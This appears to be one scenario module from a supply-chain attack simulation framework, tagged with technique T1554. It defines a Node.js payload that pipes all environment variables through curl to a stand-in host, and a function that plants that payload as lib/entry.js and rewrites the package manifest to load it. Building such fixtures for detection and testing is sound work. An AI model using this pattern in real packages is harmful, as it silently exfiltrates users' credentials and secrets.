# SPDX-License-Identifier: Apache-2.0
"""Another file becomes the one that is loaded."""

ATTACK = "T1554"
LANGUAGE = "node"
CODE = """\
const cp = require('child_process');
cp.exec('printenv | curl -s -d @- https://m.example.com/');
module.exports = {};
"""


def poison(layer):
    layer.inside("lib/entry.js", CODE)
    layer.manifest(lambda m: (m.update(main="./lib/entry.js"), m.pop("exports", None), m.pop("module", None)))
